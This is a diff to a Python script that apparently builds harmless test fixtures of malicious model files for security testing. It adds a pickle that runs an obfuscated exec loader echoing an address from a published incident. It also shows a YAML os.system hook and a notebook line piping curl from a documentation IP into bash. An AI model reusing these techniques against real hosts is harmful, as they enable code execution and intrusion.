@@ -6,7 +6,8 @@
 
 Everything but the two real models is written from the standard library alone, byte for byte the same on every machine.
 Nothing in it harms: payloads say `echo`, and their addresses are from the ranges that are reserved for documentation
-(RFC 5737, RFC 3849) or names under `.invalid` and `.example` (RFC 2606). Still, do not load them: that is the point.
+(RFC 5737, RFC 3849) or names under `.invalid` and `.example` (RFC 2606); one, that a payload only prints, is from a published
+incident, so that there is something to look up. Still, do not load them: that is the point.
 """
 
 import argparse
@@ -67,6 +68,20 @@ def pipeline() -> bytes:
     """An object of a class that nobody but its makers knows: what it does on load stands in their code."""
     state = b"}" + entry("columns", b"]" + text("age") + b"a" + text("region") + b"a") + entry("version", number(3))
     return pickle(name("acme_features.encoders", "RegionEncoder"), b")\x81", state, b"b")
+
+
+HIDDEN_STAGES = (
+    "=sNGVXxDjbXdnOLyeJ2JemByhHRytjXKFJnqgFZQlEqtiiIZEyZHTo"
+    "W/T5t6BXabqf3gnvto1kwpDEA0aWHRbpRG12J/rCdBQACgKE0wNoNe"
+)
+"""``import os; os.system('echo demo: the recommender would call 210.117.212.93')``, compressed, in base64, backwards. The address
+is one that a published incident names (JFrog, February 2024); nothing here connects to it."""
+
+
+def recommender() -> bytes:
+    """An address behind three encodings, handed to `exec`."""
+    loader = f"import base64, zlib; exec(zlib.decompress(base64.b64decode('{HIDDEN_STAGES}'[::-1])))"
+    return pickle(call("builtins", "exec", text(loader)), b"0}", entry("kind", text("als")), entry("factors", number(16)))
 
 
 def tensor(key: str, rows: int, columns: int) -> bytes:
@@ -301,6 +316,7 @@ def files() -> dict[str, bytes]:
         "conf/serve.yaml": b"logger:\n  _target_: os.system\n  command: 'echo demo: the configuration ran a command'\nport: 8080\n",
         "data/delivery.zip": delivery(),
         "models/ranker.pt": ranker(),
+        "models/recommender.pkl": recommender(),
         "models/sentiment.pkl": sentiment(),
         "models/vision.keras": vision(),
         "notebooks/setup.ipynb": notebook("!curl -s http://198.51.100.23/tools.sh | bash", "import sklearn\nsklearn.__version__"),
